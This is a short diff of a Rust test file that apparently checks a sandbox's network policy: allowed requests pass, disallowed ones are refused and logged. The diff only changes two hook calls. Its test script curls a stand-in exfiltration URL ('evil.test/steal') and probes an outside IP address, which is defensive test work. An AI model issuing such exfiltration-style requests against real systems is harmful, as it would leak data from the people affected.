@@ -8,7 +8,7 @@ use super::hook;
 
 #[tokio::test(flavor = "multi_thread")]
 async fn what_is_allowed_passes_what_is_not_is_refused_and_both_are_logged() {
-    let _hook = hook::stays().await;
+    let _hook = hook::stays();
     let bed = Bed::new().await;
     let script = "for url in https://open.test/hello https://evil.test/steal; do curl -sS --max-time 20 -w '\\n%{http_code}\\n' $url; done; \
                   cat /proc/net/if_inet6; curl --max-time 5 -sS http://203.0.113.1/ 2>/dev/null || echo no way";
@@ -31,7 +31,7 @@ async fn what_is_allowed_passes_what_is_not_is_refused_and_both_are_logged() {
 #[tokio::test(flavor = "multi_thread")]
 async fn an_engine_without_the_hook_is_an_error_and_not_a_network_with_ipv6() {
     let bed = Bed::new().await;
-    let _gone = hook::Gone::now().await;
+    let _gone = hook::Gone::now();
     // A network of its own needs none.
     let alone = bed.run_spec(spec(&bed, "echo ran")).await;
     assert_eq!(alone.stdout, "ran\n");
